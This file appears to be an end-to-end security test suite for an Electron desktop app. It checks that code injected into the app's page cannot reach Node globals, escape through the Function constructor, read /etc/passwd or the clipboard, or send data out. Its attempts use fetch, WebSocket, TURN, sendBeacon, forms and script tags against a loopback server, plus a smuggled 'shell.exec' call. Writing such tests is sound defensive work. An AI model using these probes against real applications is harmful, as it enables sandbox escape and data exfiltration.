/**
 * What code could do that got into the page, in the real app; and the app where nothing shows tray icons. A server on
 * loopback stands for everybody whom the page must not reach.
 */
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ApiClient, apiSocketPath } from '../../src/api/index.ts';
import { within } from '../integration/agent-place.ts';
import { App } from './app.ts';
import { DesktopSession } from './session.ts';
import { until } from './tray-host.ts';

let session: DesktopSession;
let state: string;
let app: App;
let page: Page;
let outside: Server;
let connections = 0;
let address: string;

beforeAll(async () => {
  outside = createServer((_request, response) => response.end('reached'));
  outside.on('connection', () => {
    connections += 1;
  });
  outside.listen(0, '127.0.0.1');
  await once(outside, 'listening');
  address = `127.0.0.1:${(outside.address() as AddressInfo).port}`;
  session = await DesktopSession.start();
  state = await mkdtemp(join(tmpdir(), 'e2e-'));
  app = await App.start({ session, state });
  page = await app.page();
  await page.getByText('No guest yet').waitFor();
});

afterAll(async () => {
  await app?.close().catch(() => undefined);
  const agent = await ApiClient.connect(apiSocketPath(state)).catch(() => undefined);
  await agent?.call('agent.stop', { guests: 'stop' });
  await agent?.closed;
  await session?.close();
  outside?.close();
  await rm(state, { recursive: true, force: true });
});

/** Runs in the page, as injected code would; returns what it threw as text. */
function inPage(code: string): Promise<unknown> {
  // What a debugger begins may make programs of text; what it leaves behind may not.
  const later = 'await new Promise((resolve) => setTimeout(resolve));';
  return page.evaluate(
    `(async () => { ${later} ${code} })().catch((error) => 'threw ' + (error?.name ?? error))`,
  );
}

describe('injected code', () => {
  test('finds nothing of Node or Electron', async () => {
    const found = await inPage(`
      return ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', '__dirname']
        .filter((name) => name in globalThis);`);
    expect(found).toEqual([]);
    expect(await inPage('return Object.keys(sojourn).sort();')).toEqual([
      'call',
      'screen',
      'shell',
      'subscribe',
    ]);
    // What the bridge gives out does not lead back to where it was made.
    const wayOut = `return sojourn.call.constructor('return typeof process')();`;
    expect(await inPage(wayOut)).toBe('threw EvalError');
  });

  test.each<[string, string]>([
    ['a file', `return (await fetch('file:///etc/passwd')).status;`],
    ['a host', `return (await fetch('http://ADDRESS/')).status;`],
    [
      'a host without its answer',
      `return (await fetch('http://ADDRESS/', { mode: 'no-cors' })).type;`,
    ],
    ['a program made of text', `return new Function('return 1')();`],
    ['a worker', `return new Worker(URL.createObjectURL(new Blob(['1']))) && 'started';`],
    ['the clipboard', `return await navigator.clipboard.readText();`],
    ['the clipboard by the app', `return await window.sojourn.shell.readClipboard();`],
    ['a camera', `return await navigator.mediaDevices.getUserMedia({ video: true });`],
    [
      'a position',
      `return await new Promise((good, bad) => navigator.geolocation.getCurrentPosition(good, () => bad(new Error('no'))));`,
    ],
  ])('does not reach %s', async (_name, code) => {
    expect(await inPage(code.replace('ADDRESS', address))).toMatch(/^threw /);
  });

  test('sends nothing to anybody', async () => {
    await inPage(`
      const wait = (thing, names) => new Promise((done) => {
        for (const name of names) thing.addEventListener(name, done);
        setTimeout(done, 3000);
      });
      const image = new Image();
      const socket = (() => { try { return new WebSocket('ws://${address}/'); } catch { return undefined; } })();
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:${address}?transport=tcp', username: 'u', credential: 'c' }] });
      peer.createDataChannel('out');
      const gathered = wait(peer, ['icecandidateerror']);
      await peer.setLocalDescription();
      navigator.sendBeacon('http://${address}/beacon', 'secret');
      const frame = document.createElement('iframe');
      frame.src = 'http://${address}/frame';
      const form = document.createElement('form');
      form.action = 'http://${address}/form';
      document.body.append(frame, form);
      form.submit();
      const script = document.createElement('script');
      try { script.src = 'http://${address}/script.js'; } catch {}
      document.body.append(script);
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = 'http://${address}/prefetch';
      document.head.append(link);
      const loaded = wait(image, ['load', 'error']);
      image.src = 'http://${address}/image.png';
      await Promise.all([loaded, gathered, socket && wait(socket, ['open', 'error', 'close'])]);
      frame.remove(); form.remove(); script.remove(); link.remove(); peer.close();`);
    expect(connections).toBe(0);
  });

  test('leads the window nowhere and opens none', async () => {
    const here = page.url();
    await inPage(`location.href = 'http://${address}/';`);
    await inPage(`location.href = 'file:///etc/passwd';`);
    await inPage(`location.href = 'app://elsewhere/';`);
    expect(await inPage(`return window.open('http://${address}/') === null;`)).toBe(true);
    await inPage(
      `const a = document.createElement('a'); a.href = 'javascript:globalThis.ran = 1'; a.click();`,
    );
    expect(await inPage('return globalThis.ran;')).toBeUndefined();
    expect(page.url()).toBe(here);
    const windows = await app.electron.evaluate(
      ({ BrowserWindow }) => BrowserWindow.getAllWindows().length,
    );
    expect(windows).toBe(1);
    expect(connections).toBe(0);
  });
});

describe('the bridge', () => {
  const rejection = (code: string) =>
    page.evaluate(`${code}.then(() => 'passed', ({ code }) => code)`) as Promise<string>;

  test.each<[string, string, string]>([
    ['an unknown call', `sojourn.call('shell.exec', { command: 'id' })`, 'call-unknown'],
    ['a name of the prototype', `sojourn.call('__proto__', {})`, 'call-unknown'],
    [
      'parameters beside the schema',
      `sojourn.call('guest.list', { where: '/' })`,
      'request-malformed',
    ],
    ['parameters that are none', `sojourn.call('guest.list', 'all')`, 'request-malformed'],
    ['a name that is a list', `sojourn.call(['guest.list'], {})`, 'request-malformed'],
  ])('refuses %s', async (_name, code, error) => {
    expect(await rejection(code)).toBe(error);
  });

  test('passes on what the agent says, as data', async () => {
    expect(await rejection(`sojourn.call('guest.show', { guest: 'nobody' })`)).toBe(
      'guest-unknown',
    );
    expect(await page.evaluate(`sojourn.call('guest.list', {})`)).toEqual([]);
  });

  test('has room for a window, and not for a flood', async () => {
    const outcome = await page.evaluate(`new Promise((done) => {
      const ends = [];
      const refusals = [];
      for (let index = 0; index < 40; index += 1)
        ends.push(sojourn.subscribe('status.watch', {}, (event) => {
          if (event.kind === 'error') refusals.push(event.error.code);
          if (refusals.length >= 24) { for (const end of ends) end(); done([...new Set(refusals)]); }
        }));
    })`);
    expect(outcome).toEqual(['too-many-calls']);
    // The streams that were ended make room again, as soon as the agent has ended them.
    await until(
      () => page.evaluate(`sojourn.call('guest.list', {})`),
      (guests) => Array.isArray(guests),
      5_000,
      'room for a call',
    );
  });
});

describe('where nothing shows tray icons', () => {
  test('the window has the menu, and its end is the end of the app', async () => {
    const items = await app.electron.evaluate(({ Menu }) =>
      Menu.getApplicationMenu()?.items[0]?.submenu?.items.map(({ label }) => label),
    );
    expect(items).toContain('Quit (guests keep running)');
    const ended = once(app.electron.process(), 'exit');
    const waits = waitsForDebugger();
    await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.close());
    await within(waits, 10_000, 'the app to end by itself');
    await app.close().catch(() => undefined);
    expect(await ended).toEqual([0, null]);
    const agent = await ApiClient.connect(apiSocketPath(state));
    expect((await agent.call('agent.info', {})).pid).toBeGreaterThan(0);
    agent.close();
  });

  /** It has ended but for us, who look into it. */
  function waitsForDebugger(): Promise<void> {
    return new Promise((resolve) => {
      app.electron.process().stderr?.on('data', (data) => {
        if (String(data).includes('Waiting for the debugger')) resolve();
      });
    });
  }
});
